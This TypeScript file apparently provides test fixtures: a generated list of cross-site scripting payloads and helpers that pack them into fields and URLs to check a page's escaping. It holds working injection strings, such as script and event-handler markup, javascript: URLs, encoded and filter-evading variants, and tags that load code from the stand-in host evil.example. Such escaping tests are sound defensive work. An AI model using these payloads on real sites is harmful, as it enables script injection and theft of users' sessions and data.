// Texts that would run a script, or load something from elsewhere, if a page did not escape them: ways out of each context
// of a document, each with ways to run or load something in it.

const run = 'alert(1)'
const elsewhere = '//evil.example/x'

/** Ends of the contexts that a text can stand in. */
const ways = [
  '',
  '">',
  "'>",
  '`>',
  '-->',
  ']]>',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '</code></p>',
  '</option></select>',
  '"/>',
  '\\">',
]

/** Markup that acts by itself. */
const acts = [
  `<script>${run}</script>`,
  `<script src=${elsewhere}></script>`,
  `<img src=x onerror=${run}>`,
  `<img src=${elsewhere}>`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<iframe src=javascript:${run}>`,
  `<iframe srcdoc="<script>${run}</script>">`,
  `<object data=javascript:${run}>`,
  `<embed src=${elsewhere}>`,
  `<link rel=stylesheet href=${elsewhere}>`,
  `<style>@import '${elsewhere}'</style>`,
  `<meta http-equiv=refresh content=0;url=${elsewhere}>`,
  `<base href=${elsewhere}>`,
  `<input autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>`,
  `<body onload=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<form action=javascript:${run}><button autofocus>`,
  `<a href=javascript:${run}>x</a>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `<div style="background:url(${elsewhere})">`,
]

/** Texts that are harmful without markup of their own, or once something decodes them. */
const others = [
  `" autofocus onfocus=${run} x="`,
  `' autofocus onfocus=${run} x='`,
  `" style="background:url(${elsewhere})`,
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `vbscript:${run}`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `\uFF1Cscript\uFF1E${run}\uFF1C/script\uFF1E`,
  `\u202E<script>${run}</script>`,
  `\${${run}}`,
  `{{constructor.constructor('${run}')()}}`,
  `*/${run}/*`,
  `';${run}//`,
  `\r\n\r\n<script>${run}</script>`,
  `[x](javascript:${run})`,
  `<`,
  `<!--`,
  `<![CDATA[<script>${run}</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<ScRiPt/x>${run}</sCrIpT\t>`,
]

/** Each way with each act, and the others. All are at most 100 characters long. */
export const hostileTexts: string[] = [...ways.flatMap((way) => acts.map((act) => way + act)), ...others]

/** The texts of the list, from one on, that fit together into a field. */
export function pack(maxLength: number, from = 0): string {
  let packed = ''
  for (let at = from; at < from + hostileTexts.length; at++) {
    const text = hostileTexts[at % hostileTexts.length] ?? ''
    if (packed.length + text.length > maxLength) break
    packed += text
  }
  return packed || (hostileTexts[from % hostileTexts.length] ?? '').slice(0, maxLength)
}

/** An allowed address that holds a text, as raw as the URL policy lets it be. */
export function addressWith(text: string): string {
  return `https://example.com/?q=${text.replaceAll(/[\s\p{Cc}\p{Cf}]/gu, '+')}#${text.replaceAll(/[\s\p{Cc}\p{Cf}]/gu, '')}`
}
